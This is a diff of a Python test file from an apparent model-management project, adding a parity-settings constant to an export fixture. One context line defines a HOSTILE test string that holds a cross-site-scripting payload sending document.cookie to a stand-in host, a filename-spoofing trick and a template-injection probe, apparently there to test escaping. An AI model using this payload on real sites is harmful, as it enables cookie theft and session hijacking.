@@ -6,6 +6,7 @@ import json
 import math
 import random
 from collections.abc import Iterator
+from dataclasses import asdict
 from pathlib import Path
 from typing import Any
 
@@ -27,6 +28,7 @@ from thumbwheel.db.schema import (
 from thumbwheel.db.workspace import Workspace
 from thumbwheel.evaluation.policy import GatePolicy
 from thumbwheel.evaluation.types import EvaluationConfig
+from thumbwheel.export.types import Limits, Parity
 from thumbwheel.models import versions
 from thumbwheel.models.artifacts import Artifacts
 from thumbwheel.models.types import Basis, ModelVersion, State
@@ -36,6 +38,7 @@ from tiny_models import pair_files, record
 
 HOSTILE = '</pre><script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)> \u202egnp.exe\u0007 {{ 7*7 }}'
 AGENT = "support"
+PARITY = Parity(5, 200, "F32", 1e-6, 1e-9, 1.0, 0.5, True, Limits(1e-4, 0.99), size=4_000_000)
 
 
 @pytest.fixture
@@ -117,7 +120,7 @@ def turn(ws: Workspace, tmp_path: Path) -> ModelVersion:
     (folder / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in metric_lines()))
     one = versions.add_candidate(ws, base, run, adapter)
     judged(ws, one, base)
-    record(ws, exports, AGENT, version_id=one.id, format="merged", path="/models/support-v1", files={}, parity={"mean_kl": 1e-9})
+    record(ws, exports, AGENT, version_id=one.id, format="merged", path="/models/support-v1", files={}, parity=asdict(PARITY))
     return versions.move(ws, one, State.APPROVED, Basis.GOLD)
 
 
